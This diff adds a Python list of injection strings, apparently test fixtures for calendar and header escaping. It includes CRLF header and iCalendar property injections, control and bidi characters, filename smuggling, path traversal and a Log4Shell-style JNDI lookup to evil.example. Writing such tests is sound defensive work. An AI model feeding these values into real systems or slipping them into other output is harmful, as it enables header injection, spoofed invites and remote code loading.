@@ -1,0 +1,35 @@
+"""Texts that would end a line, a header or a property, or turn what comes after it into something else."""
+
+ADDED = "BEGIN:VALARM\r\nTRIGGER:-PT1M\r\nEND:VALARM"
+BREAKERS = [
+    "tea\r\nSet-Cookie: ox=1",
+    "tea\nX-Ox: 1",
+    "tea\rX-Ox: 1",
+    "tea\n\rX-Ox: 1",
+    "tea\r\n\r\n<script>ox()</script>",
+    f"tea\r\n{ADDED}",
+    "tea\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:ox\r\nSUMMARY:Not ours",
+    "tea\r\nEND:VCALENDAR",
+    "tea\\nATTENDEE:mailto:ox@evil.example",
+    "tea\r\n ATTENDEE:mailto:ox@evil.example",
+    "tea\u2028SUMMARY:ox",
+    "tea\u2029SUMMARY:ox",
+    "tea\u0085SUMMARY:ox",
+    "tea\x0bSUMMARY:ox",
+    "tea\x0cSUMMARY:ox",
+    "tea\x1c\x1d\x1eSUMMARY:ox",
+    "tea\x1b[2J\x1b]0;ox\x07",
+    "tea\x08\x08\x08ox\x7f",
+    "tea \u202egnp.ox\u2066 talk",
+    'tea"; filename="ox.exe',
+    "tea'; filename*=utf-8''ox.exe",
+    "tea;TZID=ox:1,2\\,3\\;4:5",
+    "tea%0d%0aX-Ox: 1",
+    "\u560d\u560aX-Ox: 1",  # whose lower bytes are CR and LF
+    "\u00e9" * 75 + "ox",
+    "\U0001f600" * 50 + "ox",
+    "x" * 73 + "\u20ac\u20acox",
+    "../../ox",
+    "=?utf-8?q?=0d=0aX-Ox:1?=",
+    "${jndi:ldap://evil.example/ox}",
+]
